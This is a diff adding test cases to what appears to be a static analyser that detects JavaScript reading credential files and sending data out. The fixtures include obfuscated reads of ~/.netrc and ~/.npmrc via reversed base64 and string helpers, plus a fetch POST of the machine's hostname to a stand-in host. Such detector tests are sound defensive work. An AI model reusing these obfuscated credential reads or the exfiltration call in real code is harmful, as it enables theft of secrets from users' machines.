@@ -43,6 +43,10 @@ def plain(facts: list[Fact], kind: str) -> list[str]:
             'join(homedir(), Buffer.from("2e6b7562652f636f6e666967", "hex").toString())',
             "~/.kube/config",
         ),
+        # reversed base64 in a table, decoded by a helper (spread, split, reverse, index)
+        ('join(homedir(), R(["jJHdl5mL", "x"][0]))', "~/.netrc"),
+        ('join(homedir(), S("crmpn." + "x", 0, 6))', "~/.npmrc"),
+        ('join(homedir(), Array.from("crmpn.").reverse().join(""))', "~/.npmrc"),
     ],
 )
 def test_js_file_read_paths_are_spelled_out(expr: str, path: str) -> None:
@@ -50,6 +54,8 @@ def test_js_file_read_paths_are_spelled_out(expr: str, path: str) -> None:
     src += (
         'const { join } = require("path"); const { homedir } = require("os"); const P = ".npmrc";\n'
     )
+    src += 'const R = (t) => Buffer.from([...t].reverse().join(""), "base64").toString("utf8");\n'
+    src += 'function S(t, a, b) { return t.slice(a, b).split("").reverse().join(""); }\n'
     src += f'fs.readFileSync({expr}, "utf8");\n'
     assert plain(js_facts(src), "file_read") == [path]
 
@@ -75,6 +81,22 @@ function stores() {
 def test_js_paths_pushed_into_a_returned_list_are_spelled_where_read(loop: str) -> None:
     reads = plain(js_facts(LISTED + loop + "\n"), "file_read")
     assert any(".npmrc" in r and ".netrc" in r for r in reads), reads
+
+
+def test_js_an_iteration_callback_that_destructures_pairs_reads_one_position() -> None:
+    src = 'const fs = require("fs"), os = require("os"), path = require("path");\n'
+    src += 'const T = [["a", path.join(os.homedir(), ".netrc")], ["b", ".npmrc"]];\n'
+    src += "T.forEach(([name, file]) => fs.readFileSync(file));\n"
+    src += "T.map(([name]) => fs.readFileSync(name));\n"
+    assert plain(js_facts(src), "file_read") == ["{~/.netrc,.npmrc}", "{a,b}"]
+
+
+def test_js_a_catch_clause_names_its_error_only_inside_it() -> None:
+    src = 'const os = require("os");\n'
+    src += "function f() { const e = os.hostname();\n"
+    src += "  return new Promise((ok) => { try { ok(1); } catch (e) { ok(e); }\n"
+    src += '    fetch("https://t.example.net/x", { method: "POST", body: e }); }); }\n'
+    assert ("member", "os.hostname") in carried(js_facts(src), "payload")
 
 
 def test_js_a_list_without_pushes_stays_unknown() -> None:
